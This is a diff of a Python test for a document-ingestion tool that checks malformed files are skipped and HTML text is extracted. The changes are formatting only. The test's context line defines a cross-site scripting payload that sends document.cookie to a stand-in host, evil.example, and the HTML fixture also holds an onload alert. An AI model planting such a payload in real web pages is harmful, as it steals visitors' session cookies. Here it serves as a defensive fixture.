@@ -24,9 +24,7 @@ SCRIPT = "<script>fetch('//evil.example/?c=' + document.cookie)</script>"
 
 def _bad_files(folder: Path) -> dict[str, str]:
     """Write the faulty documents; return file name -> the words its warning must carry."""
-    (folder / "bad-front-matter.md").write_text(
-        "---\ntitle: [unclosed\nexperts: {\n---\n# Title\n\nBody text.\n"
-    )
+    (folder / "bad-front-matter.md").write_text("---\ntitle: [unclosed\nexperts: {\n---\n# Title\n\nBody text.\n")
     (folder / "no-text.md").write_text("---\ntitle: Empty\n---\n\n   \n")
     (folder / "binary.md").write_bytes(bytes(range(256)) * 64)
     (folder / "nul-bytes.md").write_text("# Title\n\n" + "\x00" * 500 + "text\n")
@@ -49,7 +47,7 @@ def test_bad_documents_are_skipped_by_name_and_the_rest_ingested(
 ) -> None:
     expected = _bad_files(knowledge_copy)
     (knowledge_copy / "page.html").write_text(
-        f'<html><head>{SCRIPT}<style>body{{color:red}}</style></head><body onload="alert(1)">'
+        f"<html><head>{SCRIPT}<style>body{{color:red}}</style></head><body onload=\"alert(1)\">"
         "<h1>Cool-down walks</h1><h2>Slow down</h2><p>End with five minutes of slow walking on the flat.</p>"
         f"{SCRIPT}</body></html>"
     )
